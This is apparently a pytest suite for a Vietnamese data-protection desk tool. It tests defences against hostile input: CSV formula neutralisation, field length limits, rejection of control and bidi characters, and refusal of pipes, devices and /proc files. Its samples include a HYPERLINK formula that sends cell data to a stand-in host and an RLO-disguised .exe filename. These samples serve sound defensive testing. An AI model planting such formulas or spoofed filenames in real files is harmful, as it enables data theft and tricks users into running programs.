"""Issue 13: hostile input. CSV exports never hand a spreadsheet a formula (and the import
takes the guard off again), every text field has a limit named in the error, names refuse
control characters, and inputs that are not plain files are refused without hanging."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from dpo_desk.core import (
    attachments,
    clock,
    complaints,
    csvcells,
    files,
    incidents,
    limits,
    packets,
    register,
    register_csv,
    settings,
)
from dpo_desk.core.errors import ValidationError

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+84 901 234 567", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1", "'=already quoted", "''@twice", "'plain apostrophe", "a=b", "",
            "'", "=", "Nguyễn Văn A"]
ENTRY = {"subjects": ["customers"], "items": ["EMAIL"], "purpose": ["Giao hàng"],
         "legal_basis": "contract"}
CASE = {"received_on": "2026-03-02", "channel": "email", "kind": "access",
        "requester_name": "Lê Văn Tám", "requester_contact": "tam@example.vn",
        "complexity": "simple", "summary": "Xin bản sao dữ liệu"}
INCIDENT = {"title": "Lộ danh sách khách hàng", "detected_at": "2026-03-02T09:30:00+07:00"}


# -- formula cells ----------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_a_guarded_cell_never_starts_a_formula_and_comes_back_unchanged(text):
    cell = csvcells.guard(text)
    assert not cell.startswith(tuple(csvcells.FORMULA_STARTS))
    assert csvcells.unguard(cell) == text


def test_register_export_is_neutralised_and_its_import_is_lossless(desk, tmp_path):
    for n, text in enumerate(FORMULAS[:9]):
        register.create(desk, {**ENTRY, "name": f"{text} {n}".strip() if n % 2 else
                               f"{text}{n}", "notes": text.strip()})
    out = tmp_path / "register.csv"
    register_csv.export_csv(desk, out, language="vi")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    for row in rows[1:]:
        assert not any(cell.startswith(tuple(csvcells.FORMULA_STARTS)) for cell in row), row
    before = sorted((e["name"], e["notes"]) for e in register.list_entries(desk))
    for entry in register.list_entries(desk):
        register.delete(desk, entry["id"])
    register_csv.import_csv(desk, out)
    after = sorted((e["name"], e["notes"]) for e in register.list_entries(desk))
    assert after == before


def test_the_packet_timeline_is_neutralised(desk, tmp_path):
    settings.update(desk, {"dpo_name": "=HYPERLINK(\"http://x.example\")"})
    incident_id = incidents.create(desk, INCIDENT)
    path = packets.build(desk, incident_id, tmp_path / "p.zip",
                         writers={})  # the documents are not what this test is about
    with zipfile.ZipFile(path) as packet:
        text = packet.read("timeline.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'=HYPERLINK(\"http://x.example\")"
    assert all(not cell.startswith(tuple(csvcells.FORMULA_STARTS)) for r in rows for cell in r)


# -- length limits ------------------------------------------------------------------------------

def too_long(field: str) -> str:
    return "a" * (limits.limit(field) + 1)


def fields_of(error: ValidationError) -> list[str]:
    return [e.field for e in error.errors]


@pytest.mark.parametrize("field", ["name", "notes", "retention"])
def test_register_limits(desk, field):
    limit = limits.NAME if field == "name" else limits.ENTRY_TEXT
    ok = {**ENTRY, "name": "Khách hàng", field: "a" * limit}
    register.create(desk, ok)
    with pytest.raises(ValidationError) as caught:
        register.create(desk, {**ok, "name": "Khác", field: "a" * (limit + 1)})
    assert fields_of(caught.value) == [field]
    assert f"at most {limit} characters" in str(caught.value)


@pytest.mark.parametrize("field", ["requester_name", "requester_contact", "summary"])
def test_complaint_limits(desk, field):
    complaints.create(desk, {**CASE, field: "a" * limits.limit(field)})
    with pytest.raises(ValidationError) as caught:
        complaints.create(desk, {**CASE, field: too_long(field)})
    assert fields_of(caught.value) == [field]
    assert f"at most {limits.limit(field)} characters" in str(caught.value)


def test_reply_and_reason_limits(desk):
    case_id = complaints.create(desk, CASE)
    complaints.save_reply(desk, case_id, "a" * limits.REPLY)
    with pytest.raises(ValidationError) as caught:
        complaints.save_reply(desk, case_id, too_long("reply_text"))
    assert fields_of(caught.value) == ["reply_text"]
    with pytest.raises(ValidationError) as caught:
        complaints.transition(desk, case_id, "answered", reply_text=too_long("reply_text"))
    assert fields_of(caught.value) == ["reply_text"]
    with pytest.raises(ValidationError) as caught:
        complaints.transition(desk, case_id, "on_hold", reason=too_long("reason"))
    assert fields_of(caught.value) == ["reason"]
    clock.freeze(datetime(2026, 3, 3, 3, 0, tzinfo=UTC))  # before the due date (DOMAIN D3.8)
    with pytest.raises(ValidationError) as caught:
        complaints.extend(desk, case_id, 5, too_long("reason"))
    assert fields_of(caught.value) == ["reason"]
    assert complaints.get(desk, case_id)["status"] == "new"


@pytest.mark.parametrize("field", ["title", "description", "measures"])
def test_incident_limits(desk, field):
    incidents.create(desk, {**INCIDENT, field: "a" * limits.limit(field)})
    with pytest.raises(ValidationError) as caught:
        incidents.create(desk, {**INCIDENT, field: too_long(field)})
    assert fields_of(caught.value) == [field]


def test_incident_step_limits(desk):
    incident_id = incidents.create(desk, INCIDENT)
    with pytest.raises(ValidationError) as caught:
        incidents.transition(desk, incident_id, "assessed", decision="no_notify",
                             assessment=too_long("assessment"))
    assert fields_of(caught.value) == ["assessment"]
    assert incidents.get(desk, incident_id)["status"] == "discovered"


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\n", "\u202e", "\u2066", "\u2069"])
def test_names_refuse_control_characters(desk, tmp_path, char):
    bad = f"Nguyễn{char}Văn A"
    code = f"U+{ord(char):04X}"
    for make, field in ((lambda: register.create(desk, {**ENTRY, "name": bad}), "name"),
                        (lambda: complaints.create(desk, {**CASE, "requester_name": bad}),
                         "requester_name"),
                        (lambda: incidents.create(desk, {**INCIDENT, "title": bad}), "title"),
                        (lambda: settings.update(desk, {"company_name": bad}),
                         "company_name")):
        with pytest.raises(ValidationError) as caught:
            make()
        assert fields_of(caught.value) == [field]
        if char != "\n":  # settings says "one line" for a line break
            assert code in str(caught.value)


def test_attachment_file_names_refuse_control_characters(desk, tmp_path):
    incident_id = incidents.create(desk, INCIDENT)
    hidden = tmp_path / "hóa-đơn\u202egpj.exe"
    hidden.write_bytes(b"MZ")
    with pytest.raises(ValidationError, match="U\\+202E"):
        attachments.add(desk, "incidents", incident_id, hidden)
    assert attachments.list_for(desk, "incidents", incident_id) == []


def test_dates_days_and_periods_are_bounded():
    for day in (date(1899, 12, 31), date(2201, 1, 1), date(9999, 12, 31)):
        with pytest.raises(ValidationError, match="from 1900 to 2200"):
            limits.check_date("--received", day)
    for days in (0, 3651, 10**9):
        with pytest.raises(ValidationError, match="1 to 3650"):
            limits.check_days("--days", days)
    limits.check_period("--from", date(2000, 2, 29), date(2020, 2, 27))
    with pytest.raises(ValidationError, match="longer than 20 years"):
        limits.check_period("--from", date(1900, 1, 1), date(2200, 12, 31))


# -- inputs that are not plain files ------------------------------------------------------------

READER = r'''
import sys
from dpo_desk.core import files
from dpo_desk.core.errors import ValidationError
try:
    files.read_limited(sys.argv[1], 1024 * 1024)
except ValidationError as error:
    print(error)
'''


def read_in_a_child(path: Path | str) -> str:
    """read_limited in another program, which must end (a FIFO must not hang it)."""
    result = subprocess.run([sys.executable, "-c", READER, str(path)], cwd=ROOT,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return result.stdout


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX FIFOs")
def test_a_fifo_is_refused_without_hanging(tmp_path):
    fifo = tmp_path / "register.csv"
    os.mkfifo(fifo)
    assert "a pipe, not a regular file" in read_in_a_child(fifo)
    link = tmp_path / "innocent.csv"
    link.symlink_to(fifo)
    assert "a pipe, not a regular file" in read_in_a_child(link)


@pytest.mark.parametrize(("path", "said"), [
    ("/dev/zero", "a device"), ("/proc/self/status", "a system file under /proc"),
    ("/proc/self/mem", "a system file under /proc")])
def test_devices_and_proc_files_are_refused(path, said):
    if not Path(path).exists():
        pytest.skip(f"{path} does not exist here")
    assert said in read_in_a_child(path)


def test_folders_and_files_past_the_limit_are_refused(tmp_path):
    with pytest.raises(ValidationError, match="a folder, not a regular file"):
        files.read_limited(tmp_path, 10)
    big = tmp_path / "big.json"
    big.write_bytes(b"x" * 2049)
    with pytest.raises(ValidationError, match="larger than 2 KB"):
        files.read_limited(big, 2048)
    assert files.read_limited(big, 2049) == b"x" * 2049


def test_settings_import_refuses_a_device(desk):
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    with pytest.raises(ValidationError, match="a device"):
        settings.import_file(desk, "/dev/zero")
